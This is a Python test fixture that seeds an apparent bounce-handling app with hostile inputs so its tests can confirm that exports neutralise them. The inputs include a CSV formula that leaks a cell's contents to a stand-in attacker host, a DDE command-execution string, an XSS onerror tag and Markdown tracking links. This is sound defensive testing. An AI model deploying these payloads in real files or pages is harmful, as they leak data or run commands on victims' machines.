"""Hostile text from outside, where Bounce Desk shows or exports it: diagnostic codes and
subjects from receiving servers, names from the user directory, addresses themselves.

`seed_hostile` stores it all through the real paths; the tests check that every export
neutralises formulas and every page shows it only as text.
"""

from __future__ import annotations

from typing import Any

from sqlalchemy import Engine

from core.recipients.confirmations import confirm_valid
from core.recipients.directory import import_users_csv
from core.suppression.mirror import sync_suppression_list
from tests.factories import OPS, ingest, make_bounce
from tests.suppression_kit import FakeSes

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HTML = "<img src=x onerror=alert(1)>"
MARKDOWN = "**bold** [link](http://evil.example) ![pixel](http://evil.example/p.png)"
DDE = '+cmd|" /C calc"!A0'
SUBJECT = '@SUM(1+1)*cmd|" /C calc"!A0 **urgent**'
# Valid addresses (RFC 5322 atext), so operators can select and act on them.
FORMULA_ADDRESS = "=1+2@evil.example"
MARKDOWN_ADDRESS = "**bold**@evil.example"
DASH_ADDRESS = "-dash@evil.example"
ADDRESSES = [FORMULA_ADDRESS, MARKDOWN_ADDRESS, DASH_ADDRESS]
# What must never reach an element that interprets Markdown or HTML.
FRAGMENTS = ["HYPERLINK", "onerror", "**bold**", "evil.example", "calc", "urgent"]


def hostile_bounce(recipients: list[str]) -> dict[str, Any]:
    payload = make_bounce(recipients, diagnostic=FORMULA)
    payload["mail"]["commonHeaders"]["subject"] = SUBJECT
    return payload


def seed_hostile(engine: Engine) -> FakeSes:
    """Hostile bounces, directory entries and suppression entries; all three addresses are
    confirmed valid and listed, so they are removal candidates too."""
    ingest(engine, hostile_bounce(ADDRESSES))
    directory = (
        "email,user_id,name,company\n"
        f'"{FORMULA_ADDRESS}","{DDE.replace(chr(34), chr(34) * 2)}","{HTML}","{MARKDOWN}"\n'
        f'"{MARKDOWN_ADDRESS}",7,"{MARKDOWN}","{HTML}"\n'
    )
    report = import_users_csv(engine, OPS, directory.encode("utf-8"))
    assert report.imported == 2, report.rejected
    confirm_valid(engine, ADDRESSES, actor=OPS, note=MARKDOWN)
    ses = FakeSes(dict.fromkeys(ADDRESSES, "BOUNCE"))
    sync_suppression_list(engine, ses, actor=OPS)
    return ses
